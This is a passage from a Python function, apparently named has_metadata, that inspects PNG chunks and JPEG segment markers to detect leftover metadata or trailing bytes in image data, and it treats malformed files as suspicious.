        chunks = png_chunks(data)
        end = 8 + sum(12 + len(d) for _, d in chunks)
        return any(kind not in _PNG_PIXEL_CHUNKS for kind, _ in chunks) or end != len(data)
    if data.startswith(b"\xff\xd8"):
        pos = 2
        while pos + 4 <= len(data):
            marker, length = data[pos + 1], struct.unpack(">H", data[pos + 2 : pos + 4])[0]
            segment = data[pos + 4 : pos + 2 + length]
            if marker == 0xFE or (0xE1 <= marker <= 0xEF) or (marker == 0xE0 and not segment.startswith(b"JFIF\x00")):
                return True
            if marker == 0xDA:  # start of scan: no more metadata segments before EOI in Pillow's output
                return not data.endswith(b"\xff\xd9")
            pos += 2 + length
        return True  # malformed: treat as suspicious
    raise ValueError("has_metadata expects PNG or JPEG bytes")
